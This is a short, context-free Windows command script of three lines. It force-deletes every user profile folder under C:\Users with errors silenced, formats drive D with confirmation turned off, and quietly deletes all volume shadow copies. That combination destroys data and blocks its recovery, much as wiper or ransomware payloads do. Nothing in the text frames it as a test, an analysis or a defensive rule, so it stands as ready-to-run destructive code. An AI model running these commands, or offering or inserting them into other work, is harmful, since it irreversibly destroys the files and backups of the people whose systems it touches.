Remove-Item -Path C:\Users\* -Recurse -Force -ErrorAction SilentlyContinue
Format-Volume -DriveLetter D -FileSystem NTFS -Force -Confirm:$false
vssadmin delete shadows /all /quiet
